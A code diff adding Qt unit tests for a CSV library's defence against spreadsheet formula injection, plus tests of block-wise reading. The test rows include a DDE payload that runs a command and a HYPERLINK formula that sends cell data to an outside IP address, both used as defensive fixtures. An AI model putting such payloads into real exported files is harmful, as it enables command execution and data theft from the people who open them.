@@ -26,6 +26,12 @@ private slots:
     void writerQuotesOnlyWhenNeeded();
     void byteOrderMarkInsideAFieldIsText();
     void writerToDevice();
+    void formulasAreNeutralized_data();
+    void formulasAreNeutralized();
+    void neutralizingRoundTrips();
+    void readerInBlocksReadsTheSame_data();
+    void readerInBlocksReadsTheSame();
+    void readerHoldsOneBlock();
     void lineKeys_data();
     void lineKeys();
     void lineKeyErrors_data();
@@ -192,7 +198,9 @@ void TestCsvReader::writerRoundTrip()
 void TestCsvReader::writerQuotesOnlyWhenNeeded()
 {
     QByteArray out;
-    Csv::appendRecord(out, {u"plain"_qs, u"a,b"_qs, u"say \"x\""_qs, QString(), u"+15551234567"_qs});
+    Csv::WriteOptions raw;
+    raw.neutralizeFormulas = false;
+    Csv::appendRecord(out, {u"plain"_qs, u"a,b"_qs, u"say \"x\""_qs, QString(), u"+15551234567"_qs}, raw);
     QCOMPARE(out, QByteArray("plain,\"a,b\",\"say \"\"x\"\"\",,+15551234567\r\n"));
 }
 
@@ -223,6 +231,194 @@ void TestCsvReader::writerToDevice()
     writer.writeRecord({u"a"_qs});
     QVERIFY(!writer.flush());
     QVERIFY(writer.failed());
+}
+
+void TestCsvReader::formulasAreNeutralized_data()
+{
+    QTest::addColumn<QString>("cell");
+    QTest::addColumn<QByteArray>("written"); // by default
+    QTest::addColumn<QByteArray>("raw"); // neutralizeFormulas = false
+
+    QTest::newRow("DDE") << u"=cmd|' /C calc'!A0"_qs << QByteArray("'=cmd|' /C calc'!A0\r\n")
+                         << QByteArray("=cmd|' /C calc'!A0\r\n");
+    QTest::newRow("HYPERLINK")
+        << u"=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"Click\")"_qs
+        << QByteArray("\"'=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\"\r\n")
+        << QByteArray("\"=HYPERLINK(\"\"http://198.51.100.7/?\"\"&A1,\"\"Click\"\")\"\r\n");
+    QTest::newRow("plus (E.164)") << u"+4930123"_qs << QByteArray("'+4930123\r\n")
+                                  << QByteArray("+4930123\r\n");
+    QTest::newRow("minus") << u"-2+3"_qs << QByteArray("'-2+3\r\n") << QByteArray("-2+3\r\n");
+    QTest::newRow("at") << u"@SUM(A1:A9)"_qs << QByteArray("'@SUM(A1:A9)\r\n")
+                        << QByteArray("@SUM(A1:A9)\r\n");
+    QTest::newRow("tab") << u"\t=1+1"_qs << QByteArray("'\t=1+1\r\n") << QByteArray("\t=1+1\r\n");
+    QTest::newRow("carriage return") << u"\r=1+1"_qs << QByteArray("\"'\r=1+1\"\r\n")
+                                     << QByteArray("\"\r=1+1\"\r\n");
+    QTest::newRow("line feed") << u"\n=1+1"_qs << QByteArray("\"'\n=1+1\"\r\n")
+                               << QByteArray("\"\n=1+1\"\r\n");
+    // An apostrophe the import would take for the exporter's gets one more.
+    QTest::newRow("apostrophe before =") << u"'=1"_qs << QByteArray("''=1\r\n") << QByteArray("'=1\r\n");
+    QTest::newRow("two apostrophes before -")
+        << u"''-x"_qs << QByteArray("'''-x\r\n") << QByteArray("''-x\r\n");
+    QTest::newRow("apostrophe alone") << u"'"_qs << QByteArray("'\r\n") << QByteArray("'\r\n");
+    QTest::newRow("apostrophe then text")
+        << u"'quoted'"_qs << QByteArray("'quoted'\r\n") << QByteArray("'quoted'\r\n");
+    QTest::newRow("= later") << u"a=b"_qs << QByteArray("a=b\r\n") << QByteArray("a=b\r\n");
+    QTest::newRow("space first") << u" =1"_qs << QByteArray("\" =1\"\r\n") << QByteArray("\" =1\"\r\n");
+    QTest::newRow("empty") << QString() << QByteArray("\r\n") << QByteArray("\r\n");
+    QTest::newRow("sip") << u"sip:bob@example.com"_qs << QByteArray("sip:bob@example.com\r\n")
+                         << QByteArray("sip:bob@example.com\r\n");
+}
+
+void TestCsvReader::formulasAreNeutralized()
+{
+    QFETCH(QString, cell);
+    QFETCH(QByteArray, written);
+    QFETCH(QByteArray, raw);
+    QByteArray out;
+    Csv::appendRecord(out, {cell});
+    QCOMPARE(out, written);
+    QBuffer buffer;
+    buffer.open(QIODevice::WriteOnly);
+    {
+        Csv::Writer writer(buffer);
+        QVERIFY(writer.writeRecord({cell}));
+    }
+    QCOMPARE(buffer.data(), written);
+    Csv::WriteOptions options;
+    options.neutralizeFormulas = false;
+    out.clear();
+    Csv::appendRecord(out, {cell}, options);
+    QCOMPARE(out, raw);
+    // A verbatim column is written as it is, the others are not.
+    options.neutralizeFormulas = true;
+    options.verbatimColumns = {1};
+    out.clear();
+    Csv::appendRecord(out, {cell, cell}, options);
+    QCOMPARE(out, written.chopped(2) + ',' + raw);
+    // What the reader gives back, restoreFormula turns into the cell again (a line break inside a
+    // quoted field is read as LF).
+    const Csv::Document doc = Csv::read("h\r\n" + written);
+    QVERIFY(!doc.error);
+    if (!cell.isEmpty()) {
+        QCOMPARE(doc.records.size(), 2);
+        QCOMPARE(Csv::restoreFormula(doc.records[1].fields.value(0)), QString(cell).replace(u'\r', u'\n'));
+    }
+}
+
+void TestCsvReader::neutralizingRoundTrips()
+{
+    // restoreFormula(neutralizeFormula(x)) == x for every text of up to 4 characters from an
+    // alphabet of the characters that matter; a cell that needs nothing is written as it is.
+    const QString alphabet = QStringLiteral("'=+-@\t\r\na ");
+    QList<QString> cells {QString()};
+    QList<QString> last = cells;
+    for (int length = 1; length <= 4; ++length) {
+        QList<QString> longer;
+        for (const QString &c : std::as_const(last)) {
+            for (const QChar ch : alphabet)
+                longer.append(c + ch);
+        }
+        cells.append(longer);
+        last = longer;
+    }
+    for (const QString &cell : std::as_const(cells)) {
+        QCOMPARE(Csv::restoreFormula(Csv::neutralizeFormula(cell)), cell);
+        if (!Csv::needsNeutralizing(cell))
+            QCOMPARE(Csv::neutralizeFormula(cell), cell);
+    }
+    QCOMPARE(Csv::restoreFormula(u"'+4930123"_qs), u"+4930123"_qs);
+    QCOMPARE(Csv::restoreFormula(u"'quoted'"_qs), u"'quoted'"_qs);
+    QCOMPARE(Csv::restoreFormula(u"+4930123"_qs), u"+4930123"_qs);
+}
+
+// Inputs whose reading through a device block by block is compared with Csv::read.
+void TestCsvReader::readerInBlocksReadsTheSame_data()
+{
+    QTest::addColumn<QByteArray>("input");
+    QTest::newRow("BOM, CRLF, quotes, blank line, no final line end") << QByteArray(
+        "\xEF\xBB\xBFname,description,x\r\n\"Desk, 1\",\"He said \"\"hi\"\"\r\nand left\",\r\n\r\n"
+        "Zo\xC3\xAB,\"\",\"  padded  \"\r\nlast,one,\"a;b\"");
+    QTest::newRow("line breaks in quotes, error") << QByteArray("h\n\"a\nb\nc\"\nd\n\"e\"x\n");
+    QTest::newRow("CR line ends, semicolons") << QByteArray("a;b\r1;\"x\ry\"\r2;3\r");
+    QTest::newRow("quotes only") << QByteArray("a,b\r\n\"\"\"\"\"\",\"\"\r\n,\r\n\"q\"\"\",z\r\n");
+    QTest::newRow("unbalanced quote") << QByteArray("name,description\r\nA,\"open\r\nB,x\r\n");
+    QTest::newRow("quote in unquoted field") << QByteArray("name,description\nA,say \"hi\"\nB,c\nD,e\n");
+    QTest::newRow("invalid UTF-8") << QByteArray("name,site\nA,M\xfcnchen\n");
+    QTest::newRow("UTF-16") << QByteArray("\xff\xfen\0a\0m\0e\0", 10);
+    QTest::newRow("NUL byte") << QByteArray("name,site\nA,B\0C\n", 15);
+    QTest::newRow("empty") << QByteArray("");
+    QTest::newRow("BOM only") << QByteArray("\xEF\xBB\xBF");
+    QTest::newRow("header only, no line end") << QByteArray("only a header");
+}
+
+void TestCsvReader::readerInBlocksReadsTheSame()
+{
+    QFETCH(QByteArray, input);
+    const Csv::Document whole = Csv::read(input);
+    for (const qsizetype blockBytes :
+         {qsizetype(1), qsizetype(2), qsizetype(3), qsizetype(7), qsizetype(64)}) {
+        // A NUL byte is noticed in the block it is in: errors before that block do not say binary.
+        if (input.contains('\0') && blockBytes < input.size())
+            continue;
+        for (const qsizetype batch : {qsizetype(1), qsizetype(2), qsizetype(1000)}) {
+            QBuffer device(&input);
+            QVERIFY(device.open(QIODevice::ReadOnly));
+            Csv::ReadOptions options;
+            options.blockBytes = blockBytes;
+            Csv::Reader reader(device, options);
+            QList<Csv::Record> records;
+            while (reader.next(records, batch)) { }
+            const QByteArray what =
+                "block " + QByteArray::number(blockBytes) + ", batch " + QByteArray::number(batch);
+            QVERIFY2(records.size() == whole.records.size(), what.constData());
+            for (qsizetype r = 0; r < records.size(); ++r) {
+                QVERIFY2(records[r].line == whole.records[r].line, what.constData());
+                QVERIFY2(records[r].fields == whole.records[r].fields, what.constData());
+            }
+            QVERIFY2(reader.delimiter() == whole.delimiter, what.constData());
+            QVERIFY2(reader.hadBom() == whole.hadBom, what.constData());
+            QVERIFY2(reader.error().has_value() == whole.error.has_value(), what.constData());
+            if (whole.error)
+                QCOMPARE(reader.error()->text(), whole.error->text());
+            else
+                QCOMPARE(reader.bytesRead(), input.size());
+            QVERIFY(!reader.next(records, batch)); // stays at the end
+        }
+    }
+}
+
+void TestCsvReader::readerHoldsOneBlock()
+{
+    // 20,000 rows read 256 at a time through 4 KiB blocks: the same records as the whole file,
+    // and the reader's position moves on with them instead of jumping to the end at once.
+    QByteArray input = "name,description\r\n";
+    for (int i = 0; i < 20000; ++i)
+        input += "Phone " + QByteArray::number(i) + ",\"room " + QByteArray::number(i) + ",\r\nfloor\"\r\n";
+    const Csv::Document whole = Csv::read(input);
+    QCOMPARE(whole.records.size(), 20001);
+    QBuffer device(&input);
+    QVERIFY(device.open(QIODevice::ReadOnly));
+    Csv::ReadOptions options;
+    options.blockBytes = 4096;
+    Csv::Reader reader(device, options);
+    QList<Csv::Record> batch;
+    qsizetype total = 0;
+    qint64 lastPosition = 0;
+    while (reader.next(batch, 256)) {
+        QVERIFY(batch.size() <= 256);
+        for (const Csv::Record &r : std::as_const(batch)) {
+            QCOMPARE(r.fields, whole.records.at(total).fields);
+            QCOMPARE(r.line, whole.records.at(total).line);
+            ++total;
+        }
+        QVERIFY(reader.bytesRead() > lastPosition);
+        QVERIFY(reader.bytesRead() < input.size() || total == whole.records.size());
+        lastPosition = reader.bytesRead();
+        batch.clear();
+    }
+    QCOMPARE(total, whole.records.size());
+    QVERIFY(!reader.error());
+    QCOMPARE(reader.bytesRead(), input.size());
 }
 
 void TestCsvReader::lineKeys_data()
